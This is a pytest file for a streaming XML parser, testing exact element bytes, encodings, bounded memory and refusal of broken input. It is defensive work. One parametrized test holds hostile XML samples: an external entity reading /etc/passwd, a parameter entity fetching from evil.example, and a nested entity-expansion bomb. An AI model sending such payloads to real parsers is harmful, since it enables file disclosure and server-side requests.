"""XML is read piece by piece: exact bytes of each element, bounded memory, and no entity is ever declared."""

import io
import tracemalloc

import pytest

from hub.archive.sources import Broken, Unreadable, limits, xml_spans
from hub.archive.sources.xml_spans import elements, root_of

MB = 1024**2
PIECE = 16 * 1024


def items(data, name="item"):
    return list(elements(io.BytesIO(data), lambda path: path[-1][1] == name))


@pytest.mark.parametrize(
    "item",
    [
        b"<item/>",
        b"<item />",
        b"<item\n a='1>2'></item>",
        b"<item><b>x</b><!-- </item> --><![CDATA[</item>]]></item >",
        "<item>é ü 😀</item>".encode(),
        b"<item><item>inner</item></item>",
    ],
)
@pytest.mark.parametrize("after", [b"", b" text", b"<!-- c -->", b"<?pi?>", b"<item>next</item>"])
def test_the_exact_bytes_of_each_element(item, after):
    found = items(b"<?xml version='1.0'?><rss><channel>\n" + item + after + b"</channel></rss>")
    assert found[0].raw == item
    assert root_of(io.BytesIO(found[0].before + found[0].raw + found[0].after)) == ("", "rss")


@pytest.mark.parametrize("encoding", ["utf-8", "iso-8859-1", "windows-1252", "utf-16"])
def test_every_encoding_that_a_file_declares(encoding):
    text = f"<?xml version='1.0' encoding='{encoding}'?><rss><item>café</item></rss>"
    (found,) = items(text.encode(encoding))
    assert found.node.text == "café"
    assert found.raw.decode(encoding if encoding != "utf-16" else "utf-16-le") == "<item>café</item>"


def test_elements_larger_than_a_piece_and_cut_anywhere():
    long = b"<item>" + b"words " * 100_000 + b"</item>"
    found = items(b"<rss>" + long * 3 + b"</rss>")
    assert [one.raw for one in found] == [long] * 3


def test_parts_of_an_element_have_their_own_bytes():
    (found,) = items(b"<rss xmlns:w='u'><item>a<w:c>1</w:c> <w:c/>b</item></rss>")
    assert [found.part(node) for node in found.node.children] == [b"<w:c>1</w:c>", b"<w:c/>"]
    assert (found.node.children[0].space, found.node.value("c", "u")) == ("u", "1")


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"<rss><item>", "cut_short"),
        (b"<rss><item></rss>", "not_xml"),
        (b"<rss></rss> more", "not_xml"),
        (b"<rss>&nbsp;</rss>", "not_xml"),
        (b"", "cut_short"),
        (b"<?xml version='1.0' encoding='no-such'?><rss/>", "encoding"),
        (b"<rss>\xff</rss>", "not_xml"),
        (b"<a>" * 1_000, "too_deep"),
        (b"<rss><item>" + b"<a>" * 1_000, "too_deep"),
        (b"<!DOCTYPE rss [<!ENTITY a 'aaaa'>]><rss>&a;</rss>", "entities"),
        (b"<!DOCTYPE rss [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><rss>&a;</rss>", "entities"),
        (b"<!DOCTYPE rss [<!ENTITY % a SYSTEM 'http://evil.example/'> %a;]><rss/>", "entities"),
        (b"<!DOCTYPE r [<!ENTITY a 'a'><!ENTITY b '&a;&a;'><!ENTITY c '&b;&b;'>]><r>&c;</r>", "entities"),
    ],
)
def test_what_is_broken_or_hostile_is_refused_with_a_reason(data, reason):
    with pytest.raises(Broken) as refused:
        items(data)
    assert refused.value.reason == reason


def test_a_file_that_declares_entities_is_refused_before_anything_else():
    with pytest.raises(Unreadable, match="entities"):
        root_of(io.BytesIO(b"<!DOCTYPE rss [<!ENTITY a 'aaaa'>]><rss>&a;</rss>"))


def test_a_doctype_without_entities_and_names_of_characters_that_it_stands_for():
    (found,) = items(
        b'<!DOCTYPE rss PUBLIC "-//N" "http://n.example/rss.dtd"><rss><item>a&nbsp;b</item></rss>'
    )
    assert found.node.text == "a\xa0b"


class Endless(io.RawIOBase):
    """A file whose middle goes on for `size` bytes."""

    def __init__(self, head: bytes, middle: bytes, tail: bytes, size: int):
        piece = middle * (PIECE // len(middle))
        self.parts = [head, *[piece] * (size // PIECE), tail]

    def read(self, size=-1):
        return self.parts.pop(0) if self.parts else b""


@pytest.mark.parametrize(
    ("head", "middle", "tail"),
    [
        (b"<rss><item>", b"word ", b"</item><item>next</item></rss>"),
        (b"<rss><item>", b"<a/>", b"</item><item>next</item></rss>"),
        (b"<rss>", b"<a>b</a>", b"<item>next</item></rss>"),
    ],
)
def test_one_giant_element_costs_itself_in_bounded_memory(monkeypatch, head, middle, tail):
    monkeypatch.setattr(limits, "MAX_VALUE", 2 * PIECE)
    monkeypatch.setattr(xml_spans, "MOST_NODES", 1_000)
    tracemalloc.start()
    found = list(elements(Endless(head, middle, tail, 6 * PIECE), lambda path: path[-1][1] == "item"))
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert found[-1].node.text == "next"
    assert [one.reason for one in found[:-1]] == ["value_too_large"] * (b"<item>" in head)
    assert peak < 3 * MB


def test_a_comment_without_end_is_given_up(monkeypatch):
    monkeypatch.setattr(limits, "MAX_VALUE", MB)
    with pytest.raises(Broken, match="value_too_large"):
        list(elements(Endless(b"<rss><!-- ", b"word ", b"--></rss>", 4 * MB), lambda path: False))
